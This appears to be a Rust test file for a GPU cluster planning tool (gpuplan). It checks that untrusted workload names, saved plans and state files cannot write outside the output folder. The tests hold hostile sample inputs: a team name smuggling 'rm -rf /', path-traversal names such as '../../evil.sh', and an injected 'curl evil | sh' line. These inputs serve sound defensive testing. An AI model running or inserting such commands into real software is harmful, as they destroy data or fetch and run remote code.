//! Issue 13: untrusted input stays inside its folder. Names that would become paths,
//! object names or shell words are refused at `validate` with a span; nothing is
//! written or deleted outside `--out-dir`, whatever a rendered, saved-plan or state
//! path says; a saved plan is applied only when it is exactly the plan its inputs and
//! placement give. Each test checks that the folders around the output are unchanged.

use crate::common;

use crate::common::{Scratch, codes, panicked};
use gpuplan::apply::{WriteOptions, write_dir};
use gpuplan::load::load_paths;
use gpuplan::render::Files;
use gpuplan::state::sha256;
use serde_json::{Value, json};

const BASE: &str = r#"
cluster "lab"
node-class "hgx" {
    cpu sockets=2 cores-per-socket=48 threads-per-core=2
    memory "2TiB"
    gpus 8 model="h100-sxm5-80gb"
    nvlink-domain gpus="0-7"
}
nodes "h100-[1-2]" class="hgx"
fabric {
    leaf "rack-a" nodes="h100-[1-2]"
}
team "ml" guarantee=8 burst=16
priority "serving" value=1000
"#;

/// The first reported case of the issue: a workload named `../../../tmp/pwned` and a
/// team named `a<newline>b; rm -rf /` pass `validate` and fail (or escape) later.
#[test]
fn issue13_validate_refuses_a_traversal_workload_and_a_shell_team() {
    let s = Scratch::new("untrusted-validate");
    let text = format!(
        "{BASE}team \"a\\nb; rm -rf /\" guarantee=1 burst=1\n\
         inference \"../../../tmp/pwned\" team=\"ml\" priority=\"serving\" {{\n    gpus 1\n}}\n"
    );
    s.write("c.kdl", &text);
    let (sources, _) = load_paths(&[s.path("c.kdl")]);
    let outcome = gpuplan::validate::validate(&sources);
    let gp031: Vec<_> = outcome
        .diagnostics
        .iter()
        .filter(|d| d.code == "GP031")
        .collect();
    assert_eq!(gp031.len(), 2, "{:?}", outcome.diagnostics);
    for (d, written) in gp031
        .iter()
        .zip(["\"a\\nb; rm -rf /\"", "\"../../../tmp/pwned\""])
    {
        let span = d.span.expect("a span in the user's file");
        let file = sources.get(span.file).unwrap();
        assert_eq!(&file.text[span.offset..span.offset + span.len], written);
        assert!(d.help.is_some(), "{} has no hint", d.message);
    }
    // The binary says so and renders nothing; the folder holds only the input.
    let before = s.tree();
    let r = s.run(&["render", "c.kdl", "--target", "all", "--out-dir", "out"]);
    assert_eq!(r.0, 1, "{}", r.2);
    assert_eq!(
        codes(&r).iter().filter(|c| *c == "GP031").count(),
        2,
        "{}",
        r.2
    );
    assert_eq!(s.tree(), before);
    let r = s.run(&["validate", "c.kdl"]);
    assert_eq!(r.0, 1);
    assert!(
        r.2.contains("c.kdl:16:6") || r.2.contains("team name \"a\\nb; rm -rf /\""),
        "{}",
        r.2
    );
}

/// Files whose paths leave the output folder are refused before anything is written:
/// neither the output folder nor anything beside it appears.
#[test]
fn write_dir_refuses_every_path_that_is_not_plain_and_relative() {
    let s = Scratch::new("untrusted-paths");
    s.write("keep/file.txt", "untouched");
    let before = s.tree();
    for bad in [
        "../evil.sh",
        "k8s/../../evil.sh",
        "/tmp/evil.sh",
        "k8s/./x.yaml",
        "k8s//x.yaml",
        "k8s/x.yaml/",
        "k8s\\..\\x",
        "",
        "a\nb",
        ".gpuplan-render",
    ] {
        let mut files = Files::new();
        files.insert("k8s/ok.yaml".into(), "ok\n".into());
        files.insert(bad.into(), "#!/bin/sh\necho pwned\n".into());
        let e = write_dir(&s.path("sub/out"), &files, &WriteOptions::default()).unwrap_err();
        assert_eq!(e.code, "GP927", "{bad:?}: {}", e.message);
        assert!(e.help.is_some());
        assert_eq!(s.tree(), before, "{bad:?} changed the folder");
    }
    // A file and a folder of the same name.
    let mut files = Files::new();
    files.insert("k8s".into(), "x".into());
    files.insert("k8s/a.yaml".into(), "y".into());
    let e = write_dir(&s.path("out"), &files, &WriteOptions::default()).unwrap_err();
    assert_eq!(e.code, "GP927");
    assert_eq!(s.tree(), before);
}

/// The staging folder never reuses or removes what is already beside the output
/// folder, and a link inside an old output folder is dropped, not followed.
#[test]
fn write_dir_leaves_siblings_and_link_targets_alone() {
    let s = Scratch::new("untrusted-siblings");
    let pid = std::process::id();
    s.write(&format!(".out.tmp-{pid}-0/mine.txt"), "someone else's");
    s.write(&format!(".out.old-{pid}-0/mine.txt"), "someone else's too");
    s.write("outside/secret.txt", "secret");
    let mut files = Files::new();
    files.insert("k8s/a.yaml".into(), "a\n".into());
    write_dir(&s.path("out"), &files, &WriteOptions::default()).unwrap();
    // An old output folder (ours: it has the marker) with a link pointing outside.
    #[cfg(unix)]
    std::os::unix::fs::symlink(s.path("outside"), s.path("out/k8s/linked")).unwrap();
    let outside = common::tree(&s.path("outside"));
    files.insert("k8s/linked/secret.txt".into(), "overwritten?\n".into());
    write_dir(&s.path("out"), &files, &WriteOptions::default()).unwrap();
    assert_eq!(common::tree(&s.path("outside")), outside);
    assert_eq!(s.read("outside/secret.txt"), "secret");
    assert_eq!(s.read("out/k8s/linked/secret.txt"), "overwritten?\n");
    assert_eq!(
        s.read(&format!(".out.tmp-{pid}-0/mine.txt")),
        "someone else's"
    );
    assert_eq!(
        s.read(&format!(".out.old-{pid}-0/mine.txt")),
        "someone else's too"
    );
    let names: Vec<String> = std::fs::read_dir(&s.0)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 4, "leftovers beside the output: {names:?}");
}

/// A scratch folder with the apply fixture as `cluster/`, a first apply done (state at
/// serial 1, output in `sub/out`), and a fresh plan `p.json` made against that state.
fn applied() -> Scratch {
    let s = Scratch::new(&format!("untrusted-apply-{}", rand_tag()));
    s.copy_in("tests/fixtures/apply/v1/cluster.kdl", "cluster/cluster.kdl");
    let r = s.run(&["plan", "cluster", "--solver", "greedy", "-o", "first.json"]);
    assert_eq!(r.0, 0, "{}", r.2);
    let r = s.run(&["apply", "first.json", "--out-dir", "sub/out"]);
    assert_eq!(r.0, 0, "{}", r.2);
    std::fs::remove_file(s.path("first.json")).unwrap();
    let r = s.run(&["plan", "cluster", "--solver", "greedy", "-o", "p.json"]);
    assert_eq!(r.0, 0, "{}", r.2);
    s
}

fn rand_tag() -> usize {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    N.fetch_add(1, Ordering::Relaxed)
}

fn artifact(text: &str) -> Value {
    json!({ "sha256": sha256(text.as_bytes()), "text": text })
}

fn edit(s: &Scratch, f: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_json::from_str(&s.read("p.json")).unwrap();
    f(&mut v);
    s.write("p.json", serde_json::to_string_pretty(&v).unwrap() + "\n");
}

/// Text without whitespace and miette's margin, so wrapped messages compare.
fn flat(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_whitespace() && *c != '│')
        .collect()
}

/// Applies the tampered `p.json`: refused with `code`, nothing written, the state and
/// every folder unchanged.
fn refused(s: &Scratch, code: &str, says: &str) {
    let before = s.tree();
    let r = s.run(&["apply", "p.json", "--out-dir", "sub/out"]);
    assert!(!panicked(&r), "{}", r.2);
    assert_eq!(r.0, 1, "expected {code}; got exit {}: {}", r.0, r.2);
    assert_eq!(codes(&r), vec![code.to_string()], "{}", r.2);
    assert!(
        flat(&r.2).contains(&flat(says)),
        "expected `{says}` in:\n{}",
        r.2
    );
    assert_eq!(s.tree(), before, "the folder changed");
}

/// The second reported case: `"../../evil.sh"` added to a saved plan's artifacts was
/// written two folders above the output folder, executable, and recorded in the state.
#[test]
fn issue13_tampered_plan_with_an_escaping_artifact_is_refused() {
    let s = applied();
    edit(&s, |v| {
        v["artifacts"]["../../evil.sh"] = artifact("#!/bin/sh\necho pwned\n");
    });
    refused(&s, "GP927", "\"../../evil.sh\"");
    assert!(!s.path("evil.sh").exists() && !s.path("../evil.sh").exists());
}

/// An edit of a saved plan's JSON.
type Edit = Box<dyn Fn(&mut Value)>;

#[test]
fn tampered_plans_are_refused_with_a_code() {
    let s = applied();
    let original = s.read("p.json");
    let cases: Vec<(&str, &str, Edit)> = vec![
        (
            "GP927",
            "is absolute",
            Box::new(|v: &mut Value| {
                v["artifacts"]["/tmp/evil.sh"] = artifact("x");
            }),
        ),
        (
            "GP927",
            "`.` part",
            Box::new(|v: &mut Value| {
                v["artifacts"]["mig/./h100-9.sh"] = artifact("x");
            }),
        ),
        // A plausible extra file, digest and all: not what the placement renders.
        (
            "GP928",
            "would write `k8s/workloads/evil.yaml`",
            Box::new(|v: &mut Value| {
                v["artifacts"]["k8s/workloads/evil.yaml"] = artifact("kind: Pod\n");
            }),
        ),
        (
            "GP928",
            "leaves out `k8s/nodes.yaml`",
            Box::new(|v: &mut Value| {
                v["artifacts"]
                    .as_object_mut()
                    .unwrap()
                    .remove("k8s/nodes.yaml");
            }),
        ),
        (
            "GP928",
            "the text of `mig/h100-2.sh`",
            Box::new(|v: &mut Value| {
                let t = v["artifacts"]["mig/h100-2.sh"]["text"]
                    .as_str()
                    .unwrap()
                    .to_string();
                v["artifacts"]["mig/h100-2.sh"] = artifact(&format!("{t}curl evil | sh\n"));
            }),
        ),
        (
            "GP923",
            "digest of `slurm/slurm.conf`",
            Box::new(|v: &mut Value| {
                v["artifacts"]["slurm/slurm.conf"]["text"] = json!("ClusterName=evil\n");
            }),
        ),
        (
            "GP928",
            "made by gpuplan `9.9.9`",
            Box::new(|v: &mut Value| {
                v["gpuplan_version"] = json!("9.9.9");
            }),
        ),
        // The placement edited: a GPU of the gang moved onto a MIG node.
        (
            "GP928",
            "fails the checker",
            Box::new(|v: &mut Value| {
                let w = v["placement"]["workloads"].as_array_mut().unwrap();
                let g = w.iter_mut().find(|w| w["name"] == "pretrain").unwrap();
                g["gangs"][0]["nodes"][0]["node"] = json!("h100-2");
            }),
        ),
        (
            "GP928",
            "the change summary is not",
            Box::new(|v: &mut Value| {
                v["summary"]["destroy"] = json!(3);
            }),
        ),
        (
            "GP928",
            "the disruption is not",
            Box::new(|v: &mut Value| {
                v["disruption"]["max_disrupted"] = json!({"mig": 1});
            }),
        ),
    ];
    for (code, says, f) in cases {
        s.write("p.json", &original);
        edit(&s, f);
        refused(&s, code, says);
    }
    // Only reformatted: the file is not the plan `plan -o` wrote.
    s.write("p.json", original.replace("\n  ", "\n   "));
    refused(&s, "GP928", "differs from the plan it describes");
    // The untouched plan applies.
    s.write("p.json", &original);
    let r = s.run(&["apply", "p.json", "--out-dir", "sub/out"]);
    assert_eq!(r.0, 0, "{}", r.2);
}

/// A state whose artifacts name a path outside the output folder is refused by every
/// command that reads it.
#[test]
fn a_state_with_an_escaping_artifact_is_refused() {
    let s = applied();
    let mut v: Value = serde_json::from_str(&s.read(".gpuplan/state.json")).unwrap();
    v["artifacts"]["../../evil.sh"] = artifact("#!/bin/sh\n");
    s.write(
        ".gpuplan/state.json",
        serde_json::to_string_pretty(&v).unwrap() + "\n",
    );
    let before = s.tree();
    for args in [
        vec!["plan", "cluster", "--solver", "greedy"],
        vec![
            "apply",
            "cluster",
            "--solver",
            "greedy",
            "--out-dir",
            "sub/out",
            "--auto-approve",
        ],
        vec!["apply", "p.json", "--out-dir", "sub/out"],
    ] {
        let r = s.run(&args);
        assert_eq!(r.0, 1, "{args:?}: {}", r.2);
        assert_eq!(codes(&r), vec!["GP927".to_string()], "{args:?}: {}", r.2);
        assert_eq!(s.tree(), before);
    }
}

/// `render` and `apply` write under `--out-dir` only: the rest of the folder tree is
/// the same before and after, with no staging folder left behind.
#[test]
fn render_and_apply_touch_nothing_outside_the_output_folder() {
    let s = Scratch::new("untrusted-inside");
    s.copy_in("examples/mixed-inference", "cluster");
    s.write("sub/neighbour.txt", "neighbour");
    let outside = |s: &Scratch| -> Vec<(String, Vec<u8>)> {
        s.tree()
            .into_iter()
            .filter(|(p, _)| !p.starts_with("sub/out/") && !p.starts_with(".gpuplan/"))
            .collect()
    };
    let before = outside(&s);
    for args in [
        vec![
            "render",
            "cluster",
            "--target",
            "all",
            "--out-dir",
            "sub/out",
        ],
        vec![
            "render",
            "cluster",
            "--target",
            "all",
            "--out-dir",
            "sub/out",
        ],
        vec!["apply", "cluster", "--out-dir", "sub/out", "--auto-approve"],
    ] {
        let r = s.run(&args);
        assert_eq!(r.0, 0, "{args:?}: {}", r.2);
        let mut now = outside(&s);
        now.retain(|(p, _)| p != "sub/out/");
        let mut was = before.clone();
        was.retain(|(p, _)| p != "sub/out/");
        assert_eq!(now, was, "{args:?} changed something outside sub/out");
    }
    assert!(s.path("sub/out/mig/mig-parted.yaml").is_file());
}
